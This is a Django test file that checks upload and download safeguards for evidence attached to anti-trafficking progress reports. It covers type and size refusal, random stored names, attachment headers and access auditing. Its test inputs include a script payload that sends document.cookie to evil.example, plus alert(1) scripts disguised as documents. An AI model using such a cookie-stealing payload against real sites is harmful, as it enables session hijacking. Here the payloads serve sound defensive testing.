"""Trafficking progress evidence follows the activity evidence rules (programmes/uploads.py): the attacks, carried out.

Before: any file type up to 20 MB was kept under the uploader's file name and downloads were not audited.
"""

from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from audit.models import AccessLog
from trafficking.models import ProgressUpdate

from .factories import MeasureFactory, ProgressUpdateFactory

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF"


@pytest.fixture
def thb(client):
    from accounts.roles import Role
    from accounts.tests.factories import UserFactory

    client.force_login(UserFactory(username="sevda.thb", role=Role.STAFF, unit_areas=["trafficking"]))
    return client


def _post(client, measure, name, content):
    return client.post(
        reverse("trafficking:progress_create", args=[measure.pk]),
        {"reported_on": "2022-12-15", "status": "delayed", "evidence": SimpleUploadedFile(name, content)},
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.html", b"<script>document.location='https://evil.example/'+document.cookie</script>", "not accepted"),
        ("tool.exe", b"MZ\x90\x00", "not accepted"),
        ("minutes.pdf", b"<html><script>alert(1)</script></html>", "does not match"),  # a page disguised as a PDF
        ("photo.png", PDF, "does not match"),
        ("report.docx", b"PK\x03\x04not really a zip", "does not match"),
    ],
)
def test_files_of_other_types_or_disguised_are_refused(thb, name, content, message):
    response = _post(thb, MeasureFactory(), name, content)
    assert response.status_code == 200 and message in response.content.decode()
    assert not ProgressUpdate.objects.exists()


def test_files_over_the_evidence_limit_are_refused(thb, settings):
    settings.EVIDENCE_MAX_BYTES = 10
    response = _post(thb, MeasureFactory(), "minutes.pdf", PDF)
    assert "too large" in response.content.decode() and not ProgressUpdate.objects.exists()


def test_stored_under_a_server_generated_name_downloaded_with_audit_and_safe_headers(thb, personas):
    measure = MeasureFactory()
    assert _post(thb, measure, "Protokol Elçin Məmmədov.pdf", PDF).status_code == 302
    update = ProgressUpdate.objects.get()
    stored = Path(update.evidence.name)
    assert "Elçin" not in update.evidence.name and "Protokol" not in update.evidence.name
    assert stored.suffix == ".pdf" and len(stored.stem) == 32  # a random hex name
    assert (update.evidence_name, update.evidence_type) == ("Protokol Elçin Məmmədov.pdf", "application/pdf")

    url = reverse("trafficking:evidence_download", args=[update.pk])
    download = thb.get(url)
    assert download.status_code == 200 and b"".join(download.streaming_content) == PDF
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff" and download["Cache-Control"] == "no-store"
    entry = AccessLog.objects.get(action="download_evidence")
    assert (entry.user.username, entry.object_id) == ("sevda.thb", str(update.pk))
    assert "Elçin" not in entry.detail

    assert personas["staff_other_unit"].get(url).status_code == 404
    assert AccessLog.objects.count() == 1  # a refused download is not a download


def test_a_file_stored_before_these_rules_downloads_as_an_attachment_never_as_a_page(thb):
    update = ProgressUpdateFactory()
    update.evidence.save("page.html", ContentFile(b"<script>alert(1)</script>"))
    download = thb.get(reverse("trafficking:evidence_download", args=[update.pk]))
    assert download["Content-Type"] == "application/octet-stream"
    assert download["Content-Disposition"].startswith("attachment") and download["X-Content-Type-Options"] == "nosniff"
